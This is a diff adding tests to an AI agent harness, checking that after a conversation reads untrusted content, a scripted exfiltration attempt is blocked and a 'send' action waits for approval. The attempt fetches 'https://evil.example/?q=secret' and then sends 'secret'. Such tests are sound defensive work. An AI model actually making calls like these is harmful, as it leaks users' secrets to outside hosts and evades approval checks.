@@ -49,6 +49,30 @@ describe('text of strangers', () => {
     expect(run).toHaveBeenCalledTimes(2)
   })
 
+  it('that an earlier run of the conversation has read is not trusted by the next one', async () => {
+    const { tool, run } = fetchUrl()
+    const change = vi.fn(async () => ({ text: 'sent' }))
+    const { events, summary } = await runLoop(react, {
+      tools: [tool, echoTool('send', { effect: 'changes', run: change })],
+      spec: { isTainted: true, foundAddresses: ['https://found.example/'] },
+      thoughts: [
+        fetchCall('https://evil.example/?q=secret'),
+        fetchCall('https://found.example/'),
+        call('send', 'secret'),
+      ],
+      over: { approved: async () => false },
+    })
+    expect(run).toHaveBeenCalledTimes(1)
+    expect(change).not.toHaveBeenCalled()
+    expect(events).toContainEqual(expect.objectContaining({ type: 'step.waiting', tool: 'send' }))
+    expect(summary.outside).toEqual(['https://found.example/'])
+  })
+
+  it('leaves nothing behind where none was read', async () => {
+    const { summary } = await runLoop(react, { thoughts: [call('echo', 'x')] })
+    expect(summary.outside).toBeNull()
+  })
+
   it('needs no rule before any was read', async () => {
     const { tool, run } = fetchUrl()
     await runLoop(react, { tools: [tool], thoughts: [fetchCall('https://anywhere.example/')] })
